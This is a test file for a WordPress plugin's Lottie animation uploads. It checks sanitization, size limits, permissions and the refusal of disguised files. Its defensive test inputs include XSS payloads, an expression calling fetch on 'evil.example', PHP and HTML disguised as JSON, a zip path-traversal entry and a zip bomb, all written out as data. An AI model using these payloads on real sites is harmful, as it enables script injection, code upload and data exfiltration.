// Does not depend on the database.
import { afterAll, describe, expect, it } from 'vitest';
import { archive, SPINNER, zip } from '../support/animations';
import { php, phpFile } from '../support/site';
import { visitor, type Role } from '../support/visitor';

const { call } = phpFile( 'tests/php/animations.php' );

const ids: number[] = [];
afterAll( () =>
	php( `foreach ( array( ${ ids.join() } ) as $id ) { wp_delete_attachment( $id, true ); }` )
);

/** Uploads a file as the media library does; returns the response. */
async function upload( name: string, content: Buffer | string, role: Role = 'editor' ) {
	const who = await visitor( role );
	const body = new FormData();
	body.append( 'file', new Blob( [ new Uint8Array( Buffer.from( content as Buffer ) ) ] ), name );
	const response = await who.fetch( '/?rest_route=/wp/v2/media', {
		method: 'POST',
		headers: who.nonce,
		body,
	} );
	const said = ( await response.json() ) as {
		id?: number;
		mime_type?: string;
		message?: string;
		media_details?: { width?: number; height?: number };
	};
	if ( said.id ) {
		ids.push( said.id );
	}
	return { ...said, status: response.status };
}

const JSON_TEXT = JSON.stringify( SPINNER );
const REFUSED = /not a Lottie animation/;

describe( 'an uploaded animation', () => {
	it.each( [
		[ 'as JSON', 'spinner.json', JSON_TEXT, 'application/json' ],
		[ 'as an archive', 'spinner.lottie', archive(), 'application/zip+dotlottie' ],
		[
			'as an archive of version 2',
			'second.lottie',
			zip( {
				'manifest.json': '{"version":"2","animations":[{"id":"a"}]}',
				'a/a.json': JSON_TEXT,
			} ),
			'application/zip+dotlottie',
		],
	] )( '%s, and its size is stored', async ( _what, name, content, type ) => {
		const said = await upload( name, content );
		expect( said ).toMatchObject( { status: 201, mime_type: type } );
		expect(
			await php( `return Pagewright\\Providers\\Animations\\Uploads::size( ${ said.id } );` )
		).toEqual( { width: 120, height: 80 } );
	} );
} );

describe( 'a sanitized animation', () => {
	const fileOf = ( id: number | undefined ) =>
		php< string >( `return (string) file_get_contents( get_attached_file( ${ id } ) );` );

	it( 'contains nothing that another parser could misread', async () => {
		const { id, status } = await upload(
			'answer.json',
			JSON.stringify( {
				widget: '<img src=x onerror=alert(1)>',
				html: '<script>alert(1)</script>',
				code: 'rest_forbidden',
				...SPINNER,
				__proto__x: { widget: 1 },
				layers: [
					{
						...SPINNER.layers[ 0 ],
						// An expression is a program. A position with its own value is an object
						// and stays.
						ks: {
							o: { a: 0, k: 100, x: 'var $bm_rt = fetch( "//evil.example" );' },
							p: { s: true, x: { a: 0, k: 60 }, y: { a: 0, k: 40 } },
						},
					},
				],
				markers: [],
				meta: { g: 'a tool' },
				fonts: {},
			} ),
			'author'
		);
		expect( status ).toBe( 201 );
		const kept = JSON.parse( await fileOf( id ) );
		expect( Object.keys( kept ).sort() ).toEqual(
			[ ...Object.keys( SPINNER ), 'fonts', 'markers', 'meta' ].sort()
		);
		expect( kept.layers[ 0 ].ks ).toEqual( {
			o: { a: 0, k: 100 },
			p: { s: true, x: { a: 0, k: 60 }, y: { a: 0, k: 40 } },
		} );
		// Empty objects stay objects.
		expect( kept.fonts ).toEqual( {} );
		expect( JSON.stringify( kept ) ).not.toMatch( /widget|html|rest_forbidden/ );
	} );

	it( 'does not change if it is clean', async () => {
		const { id } = await upload( 'same.json', JSON_TEXT );
		expect( JSON.parse( await fileOf( id ) ) ).toEqual( SPINNER );
	} );
} );

describe( 'other uploads are refused', () => {
	it.each( [
		[ 'other JSON', 'data.json', '{"name":"acme","layers":[]}' ],
		[ 'JSON without a size', 'size.json', JSON.stringify( { ...SPINNER, w: 0 } ) ],
		[ 'JSON without a version', 'version.json', JSON.stringify( { ...SPINNER, v: 3 } ) ],
		[
			'layers that are not a list',
			'layers.json',
			JSON.stringify( { ...SPINNER, layers: { a: 1 } } ),
		],
		[ 'broken JSON', 'broken.json', JSON_TEXT.slice( 0, -5 ) ],
		[
			'HTML with the extension of JSON',
			'page.json',
			`<html><script>alert(1)</script>${ JSON_TEXT }`,
		],
		[ 'PHP with the extension of JSON', 'code.json', `<?php echo 1; ?>${ JSON_TEXT }` ],
		[ 'JSON with the extension of an archive', 'json.lottie', JSON_TEXT ],
		[ 'an archive with the extension of JSON', 'zip.json', archive() ],
		[
			'an archive after HTML',
			'page.lottie',
			Buffer.concat( [ Buffer.from( '<html>' ), archive() ] ),
		],
		[
			'an archive without a manifest',
			'bare.lottie',
			zip( { 'animations/a.json': JSON_TEXT } ),
		],
		[
			'an archive without its animation',
			'gone.lottie',
			zip( { 'manifest.json': '{"animations":[{"id":"a"}]}' } ),
		],
		[
			'an archive with paths outside of it',
			'out.lottie',
			zip( {
				'manifest.json': '{"animations":[{"id":"a"}]}',
				'a/a.json': JSON_TEXT,
				'../x.php': '<?php',
			} ),
		],
		[ 'a truncated archive', 'cut.lottie', archive().subarray( 0, 60 ) ],
	] )( '%s', async ( _what, name, content ) => {
		const { status, message } = await upload( name, content );
		expect( status ).toBeGreaterThanOrEqual( 400 );
		expect( message ).toMatch( REFUSED );
	} );

	it( 'also too large ones, packed or unpacked', async () => {
		const large = await upload(
			'large.json',
			JSON.stringify( { ...SPINNER, nm: 'x'.repeat( 5 * 1024 * 1024 ) } )
		);
		expect( large.status ).toBeGreaterThanOrEqual( 400 );
		expect( large.message ).toMatch( /maximum size of animations is 5 MB/ );
		const bomb = await upload(
			'bomb.lottie',
			archive( { ...SPINNER, nm: 'x'.repeat( 40 * 1024 * 1024 ) } )
		);
		expect( bomb.message ).toMatch( REFUSED );
	} );

	it( 'also from users who may not upload', async () => {
		expect( ( await upload( 'a.json', JSON_TEXT, 'contributor' ) ).status ).toBe( 403 );
		expect( ( await upload( 'a.json', JSON_TEXT, 'subscriber' ) ).status ).toBe( 403 );
		expect( ( await upload( 'a.json', JSON_TEXT, 'visitor' ) ).status ).toBe( 401 );
	} );

	it( 'except JSON that another plugin allows', async () => {
		const answer = await call< { error?: unknown } >( 'answer' );
		expect( answer.error ).toBe( 0 );
	} );
} );

describe( 'the widget', () => {
	const render = ( data: object ) => call< string >( 'render', data );

	it( 'reserves the space of the animation', async () => {
		const { id } = await upload( 'place.json', JSON_TEXT );
		const html = await render( { file: id, autoplay: 'on', loop: false, controls: 'on' } );
		expect( html ).toContain( '--pw-lottie-player-ratio:120 / 80;' );
		expect( html ).toContain( '<lottie-player class="sow-lottie-player" aria-hidden="true">' );
		expect( html ).toMatch(
			/place(-\d+)?\.json&quot;,&quot;isAutoplay&quot;:true,&quot;hasControls&quot;:true,&quot;isLoop&quot;:false/
		);
		expect( html ).not.toContain( '__still' );
	} );

	it( 'reads the size of older files, and names a link', async () => {
		const { id } = await upload( 'old-file.json', JSON_TEXT );
		await php( `delete_post_meta( ${ id }, '_wp_attachment_metadata' );` );
		const html = await render( { file: id, url: 'https://example.org/' } );
		expect( html ).toContain( '--pw-lottie-player-ratio:120 / 80;' );
		expect( html ).toMatch(
			/<a [^>]*href="https:\/\/example\.org\/"><lottie-player [^>]*role="img" aria-label="old-file/
		);
		expect( html ).toContain( '__still">old-file' );
	} );
} );
